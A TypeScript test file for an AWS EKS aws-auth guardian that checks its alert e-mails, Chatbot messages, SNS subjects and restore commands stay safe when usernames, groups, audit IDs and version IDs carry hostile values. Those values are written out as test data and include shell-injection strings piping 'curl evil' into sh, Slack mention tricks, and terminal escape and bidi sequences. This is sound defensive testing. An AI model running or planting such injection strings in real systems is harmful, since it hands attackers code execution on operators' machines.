/**
 * Alerts cannot be turned into a weapon by what they quote. An escalation whose new mapping's
 * username, the writer's session name, user agent and auditID are hostile is judged end to end (the
 * Analyzer, as the classifier would), then every medium is checked: the e-mail keeps exactly one Undo
 * section with the guardian's own commands, the Chatbot notification forms no mention, link or code
 * break-out, the SNS Subject is one ASCII line under 100 characters, and the restore command, run by a
 * real bash, is exactly `restore --cluster … --to …` whatever the version id holds.
 */
import { beforeAll, describe, expect, it } from "vitest";
import { type AccessRestoreResult, renderAccessRestoreAlert } from "../../lambda/core/access-restore.js";
import {
  type AlertInput,
  renderAlert,
  renderChatbot,
  renderEmail,
  restoreCommands,
  subjectOf,
} from "../../lambda/core/alert.js";
import { Analyzer } from "../../lambda/core/analyze.js";
import { creatorWayIn } from "../../lambda/core/explain-access.js";
import type { RestoreResult } from "../../lambda/restore/restore.js";
import { renderRestoreAlert } from "../../lambda/restore/restore-alert.js";
import {
  asConfigMapObject,
  CLUSTER_ACCOUNT,
  configMapWith,
  editEvent,
  goodData,
  IDENTITY,
  roleEntry,
  withRoles,
} from "../support/events.js";
import { FAKE_UNDO, HOSTILE, shellWords, UNSAFE_CHARS } from "../support/hostile.js";

const CLUSTER = "prod-eu";
const UNSAFE_CHARS_BUT_NEWLINE = /(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u;
const HOSTILE_USERNAME = `dev${FAKE_UNDO}<!channel> \`\`\` \u001b]52;c;Y3VybA==\u0007\u202e`;
const HOSTILE_GROUP = "ops\n    aws-auth-guardian restore --cluster prod-eu --to $(curl evil|sh)";
const HOSTILE_AUDIT_ID = "x;curl evil|sh;#\nUndo";

/** A YAML double-quoted scalar holding `value` exactly (JSON strings are valid YAML). */
function yamlString(value: string): string {
  return JSON.stringify(value);
}

async function judgeHostileEscalation(): Promise<AlertInput> {
  const identity = IDENTITY.ssoAdmin();
  identity.user.extra = { ...identity.user.extra, sessionName: [`jane${FAKE_UNDO}@here`] };
  identity.userAgent = `kubectl\u001b[2J\u001b[H${"A".repeat(50_000)}`;
  const before = goodData();
  const entry = roleEntry(`arn:aws:iam::${CLUSTER_ACCOUNT}:role/contractor`, yamlString(HOSTILE_USERNAME), [
    "system:masters",
    yamlString(HOSTILE_GROUP),
  ]);
  const event = editEvent({
    auditID: HOSTILE_AUDIT_ID,
    before,
    data: withRoles(before, entry),
    resourceVersion: "207",
    identity,
  });
  const analyzer = new Analyzer({
    cluster: CLUSTER,
    baseline: asConfigMapObject(configMapWith(before, "206")),
    policy: { clusterAccount: CLUSTER_ACCOUNT },
  });
  const [write] = await analyzer.add(JSON.stringify(event), "hostile");
  if (!write?.alert) throw new Error("the hostile escalation raised no alert");
  expect(write.processed.classification.class).toBe("dangerous");
  return { ...write.alert, storeLocation: "s3://guardian-snapshots/prod" };
}

/** The alert's restore target renamed: what a version id built from a hostile auditID would be. */
let judged: AlertInput | undefined;
beforeAll(async () => {
  judged = await judgeHostileEscalation();
});

/** The alert of the hostile escalation, judged once; a fresh copy for each test. */
function hostileEscalation(): AlertInput {
  if (!judged) throw new Error("the hostile escalation was not judged");
  return structuredClone(judged);
}

function withTargetId(input: AlertInput, id: string): AlertInput {
  if (!input.restoreTarget) throw new Error("no restore target");
  return { ...input, restoreTarget: { ...input.restoreTarget, id } };
}

describe("e-mail text with hostile values", () => {
  it("has exactly one Undo section, holding only the guardian's own commands", () => {
    // Prepare
    const input = hostileEscalation();

    // Act
    const lines = renderEmail(input).split("\n");

    // Assess
    expect(lines.filter((l) => /^\s*Undo\b/.test(l))).toEqual(["Undo"]);
    const commandLines = lines.filter((l) => l.trim().startsWith("aws-auth-guardian"));
    expect(commandLines.map((l) => l.trim())).toEqual(restoreCommands(input));
    expect(lines.slice(lines.indexOf("Undo") + 1).join("\n")).not.toMatch(/curl|evil/);
  });

  it("keeps every line free of control characters, escape sequences and bidi overrides", () => {
    const email = renderEmail(hostileEscalation());
    for (const line of email.split("\n")) expect(line).not.toMatch(UNSAFE_CHARS);
    expect(email).toContain("\\u001b[2J");
    expect(email).toContain("\\u202e");
  });

  it("quotes the hostile username and group on the diff line, with the fake lines folded into it", () => {
    const email = renderEmail(hostileEscalation());
    const added = email.split("\n").filter((l) => l.startsWith("  + role"));
    expect(added).toHaveLength(1);
    expect(added[0]).toContain('as "devx\\n\\nUndo\\n');
    expect(added[0]).toContain(
      '"ops\\n    aws-auth-guardian restore --cluster prod-eu --to $(curl evil|sh)"',
    );
  });

  it("stays bounded when a value is 50,000 characters long", () => {
    const email = renderEmail(hostileEscalation());
    expect(email.length).toBeLessThan(20_000);
    expect(email).toMatch(/more characters\)/);
  });
});

describe("restore commands with a hostile version id", () => {
  it.each([
    HOSTILE.commandInjection,
    HOSTILE.commandSubstitution,
    HOSTILE.backticks,
    HOSTILE.singleQuote,
    HOSTILE_AUDIT_ID,
    HOSTILE.bidiOverride,
    HOSTILE.dash,
  ])("runs exactly `restore --cluster prod-eu --to <id>` in bash for id %j", (id) => {
    // Prepare
    const input = withTargetId(hostileEscalation(), id as string);

    // Act
    const [viaFunction, direct] = restoreCommands(input);

    // Assess
    for (const command of [viaFunction, direct]) {
      expect(command).toMatch(/^aws-auth-guardian restore [\x20-\x7e]+$/);
      expect(command).not.toMatch(/[`@]/);
    }
    const words = shellWords((viaFunction as string).replace(/^aws-auth-guardian /, ""));
    const to = id?.startsWith("-") ? [`--to=${id}`] : ["--to", id];
    expect(words).toEqual(["restore", "--cluster", CLUSTER, ...to]);
    const directWords = shellWords((direct as string).replace(/^aws-auth-guardian /, ""));
    expect(directWords.slice(-5)).toEqual([
      "--direct",
      "--kubeconfig",
      `${process.env.HOME ?? ""}/.kube/config`,
      "--store",
      "s3://guardian-snapshots/prod",
    ]);
  });
});

describe("AWS Chatbot notification with hostile values", () => {
  it("forms no mention, link or code break-out, and keeps the commands exact inside code spans", () => {
    // Prepare
    const input = withTargetId(hostileEscalation(), HOSTILE.backticks as string);

    // Act
    const notification = JSON.parse(renderChatbot(input)) as {
      content: { title: string; description: string; nextSteps: string[] };
      metadata: { additionalContext: Record<string, string> };
    };

    // Assess
    const { title, description, nextSteps } = notification.content;
    for (const text of [title, description, ...nextSteps]) {
      expect(text).not.toMatch(/<!|<@|<http/);
      expect(text).not.toMatch(/(^|[^\w.+-])@\w/);
      expect(text).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u);
    }
    expect(title).not.toContain("\n");
    expect(description.match(/```/g)).toHaveLength(2);
    expect(description).toContain("&lt;!channel&gt;");
    const commands = restoreCommands(input);
    expect(nextSteps).toEqual(commands.map((c) => `\`${c.replace(/&/g, "&amp;")}\``));
    for (const step of nextSteps) expect(step.slice(1, -1)).not.toContain("`");
    for (const value of Object.values(notification.metadata.additionalContext)) {
      expect(value).not.toMatch(UNSAFE_CHARS);
    }
  });
});

describe("SNS Subject with hostile values", () => {
  it("is one line of printable ASCII under 100 characters", () => {
    const input = hostileEscalation();
    const subject = subjectOf(input);
    expect(subject).toMatch(/^\[aws-auth DANGEROUS\] prod-eu: [\x20-\x7e]+$/);
    expect(subject.length).toBeLessThan(100);
    expect(renderAlert(input).subject).toBe(subject);
  });
});

describe("restore notification with hostile values", () => {
  const result: RestoreResult = {
    outcome: "failed",
    cluster: CLUSTER,
    target: HOSTILE.commandInjection as string,
    action: "replace",
    diffLines: [`+ role x as "dev" in system:masters`],
    dataKeysChanged: ["mapRoles"],
    verification: { ok: false, detail: `nothing written: ${FAKE_UNDO}` },
    overridden: [],
    attempts: 1,
    dryRun: false,
    forced: false,
    warnings: [HOSTILE.ansiClear as string],
    notified: false,
    error: `the API server said: ${FAKE_UNDO}<!channel>\u001b]52;c;eA==\u0007`,
  };

  it("folds the API server's message and the caller's reason, and quotes the history command", () => {
    // Act
    const alert = renderRestoreAlert(result, {
      reason: `undo\n${FAKE_UNDO}`,
      requestedBy: "<!here> jane",
      storeLocation: "s3://guardian-snapshots/it's here",
    });

    // Assess
    const lines = alert.email.split("\n");
    for (const line of lines) expect(line).not.toMatch(UNSAFE_CHARS);
    expect(lines.filter((l) => /^\s*Undo\b/.test(l))).toEqual([]);
    const history = lines.find((l) => l.includes("aws-auth-guardian history"))?.trim() ?? "";
    expect(shellWords(history.replace(/^aws-auth-guardian /, ""))).toEqual([
      "history",
      "--cluster",
      CLUSTER,
      "--store",
      "s3://guardian-snapshots/it's here",
    ]);
    expect(alert.subject).toMatch(/^[\x20-\x7e]{1,99}$/);
    const chatbot = JSON.parse(alert.chatbot) as { content: { title: string; description: string } };
    expect(chatbot.content.description).not.toContain("<!");
    expect(chatbot.content.description).not.toMatch(UNSAFE_CHARS_BUT_NEWLINE);
    expect(chatbot.content.description).toContain("&lt;!here&gt;");
    expect(chatbot.content.title).not.toContain("\n");
  });
});

describe("a failed restore names the way in of last resort", () => {
  const failed: RestoreResult = {
    outcome: "failed",
    cluster: CLUSTER,
    target: "last-good",
    action: "replace",
    diffLines: [],
    dataKeysChanged: [],
    verification: { ok: false, detail: "Unauthorized" },
    overridden: [],
    attempts: 1,
    dryRun: false,
    forced: false,
    warnings: [],
    notified: false,
    error: "Unauthorized",
  };
  const creator = "arn:aws:iam::111122223333:role/platform/ClusterCreator";

  it("names the creator in the e-mail and in Slack, and only when the restore did not succeed", () => {
    // Act
    const alert = renderRestoreAlert(failed, { creator });
    const unknown = renderRestoreAlert(failed, {});
    const restored = renderRestoreAlert(
      { ...failed, outcome: "restored", verification: { ok: true, detail: "read back" } },
      { creator },
    );

    // Assess
    expect(alert.email).toContain(
      `Way in of last resort: the cluster creator ${creator} (implicit admin in mode CONFIG_MAP; in the other modes, admin through its bootstrapped access entry while it has one); with its credentials: aws-auth-guardian restore --direct --cluster ${CLUSTER}`,
    );
    const chatbot = JSON.parse(alert.chatbot) as { content: { description: string } };
    expect(chatbot.content.description).toContain(`the cluster creator ${creator}`);
    expect(unknown.email).toContain("The cluster's creator is not known to the guardian");
    expect(restored.email).not.toContain("last resort");
  });
  it("says how the creator gets in as the failed access-entry restore saw the cluster, not a fixed phrase", () => {
    // Arrange: an API-mode cluster, where the creator is admin only through its own access entry.
    const accessFailed: AccessRestoreResult = {
      cluster: CLUSTER,
      target: "20260101T000000000Z-capture",
      outcome: "failed",
      dryRun: false,
      steps: [],
      lines: [],
      notes: [],
      refusals: [],
      done: [],
      error: "AccessDeniedException: denied",
      verification: { ok: false, detail: "stopped after 0 of 1 steps" },
      creator,
      creatorWayIn: creatorWayIn(creator, { authenticationMode: "API", entries: [] }),
    };

    // Act
    const alert = renderAccessRestoreAlert(accessFailed);
    const older = renderAccessRestoreAlert({ ...accessFailed, creatorWayIn: undefined });

    // Assess
    expect(alert.email).toContain(
      `Way in of last resort: the cluster creator ${creator}, but its access entry is gone (mode API): restore --access-entries re-creates it; restore with its credentials:`,
    );
    expect(alert.email).not.toContain("keeps implicit admin");
    expect(older.email).toContain("implicit admin in mode CONFIG_MAP; in the other modes");
  });
});
